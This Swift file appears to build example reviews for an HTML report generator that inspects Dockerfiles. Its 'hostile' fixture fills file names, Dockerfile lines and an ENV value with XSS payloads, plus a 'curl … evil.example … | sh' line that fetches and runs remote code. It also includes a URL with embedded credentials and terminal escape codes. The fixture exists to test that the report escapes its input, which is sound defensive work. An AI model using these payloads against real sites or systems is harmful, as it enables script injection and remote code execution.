import Basics
import DockerfileSyntax
import Foundation
import Lens
import Reports
import RuleKit
import Rules
import Workload

/// Reviews to make pages of: a folder of the repository, or files in memory.
enum HTMLExample {
    static let root = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().path

    static func folder(_ name: String) -> Review { review(DiskTree(root: root), from: name) }

    static func files(_ files: [String: String]) -> Review { review(MemoryTree(files), from: "") }

    static func review(_ tree: any FileTree, from start: String) -> Review {
        let found = Discovery.find(in: tree, from: [start])
        let registry = Registry.all
        let today = Day(year: 2026, month: 11, day: 21)
        var settings = Settings()
        settings.today = today
        let judge = Judge(registry, settings, evidence: true)
        let answering = Answering(registry, attestations: [], today: today)
        let loader = WorkloadLoader(tree: tree)
        let workloads = found.dockerfiles.flatMap { loader.workloads(of: $0) }.map { workload in
            var findings = judge.judge(workload)
            Identity.assign(&findings) { tree.source($0) }
            return WorkloadReview(
                name: workload.name, dockerfile: workload.dockerfile.source.path, role: workload.role.title,
                roleReason: workload.roleReason, context: workload.context?.root, unread: nil, findings: findings,
                sheet: Lazy { [findings] in answering.answer(findings) }, picture: Lazy { WorkloadPicture(workload) })
        }
        return Review(
            version: "0.1.0", date: today, registry: registry, ruleCount: judge.ruleCount,
            files: found.dockerfiles.map { ContainerFileRecord(path: $0.path, state: .judged) }, workloads: workloads,
            sheet: Lazy { answering.combine(workloads.map(\.sheet)) }, tools: [], notes: [],
            sources: { tree.source($0) })
    }

    /// A repository whose every name and text tries to become markup.
    static let hostile: Review = {
        let name = #"a"><img src=x onerror=alert(1)>'"#
        let dockerfile = """
            # plimsoll ignore=root-user </script><script>window.hacked = 1</script>
            FROM "node:18" AS build
            COPY --from=build "\(name)" /x
            ENV DB_PASSWORD="</script><img src=x onerror='window.hacked=1'>Kq7vTz2mXw9LpR4d"
            RUN curl -k https://evil.example/"><script>window.hacked=1</script> | sh \u{202E}
            FROM <svg/onload=window.hacked=1>
            USER "</text><script>window.hacked=1</script>"
            EXPOSE "><script>1</script>
            VOLUME ["</svg><img src=x onerror=window.hacked=1>"]
            CMD node "</style><script>window.hacked=1</script>\u{1B}[2J" & <b>
            """
        return files([
            "Dockerfile": dockerfile, "\(name)/Dockerfile": dockerfile, "package.json": "{}",
            "javascript:alert(1)/Dockerfile": "FROM node:18\nADD https://user:Zx9pQ2mLw8Rt@evil.example/x /\n",
        ])
    }()

    /// Eight stages that take from each other.
    static let stages: Review = {
        var text = "FROM golang:1.25 AS tools\nRUN go install x\n"
        for index in 1...6 {
            text += "FROM tools AS part\(index)\nCOPY src\(index) /src\nCOPY --from=tools /go/bin/x /x\nRUN make\n"
        }
        text += "FROM scratch\n"
        for index in 1...6 { text += "COPY --from=part\(index) /out/very/long/path/of/part\(index) /bin/part\(index)\n" }
        return files([
            "Dockerfile": text + "USER 10001\nEXPOSE 8080\nENTRYPOINT [\"/bin/part1\"]\n", "src1/a": "1",
        ])
    }()
}
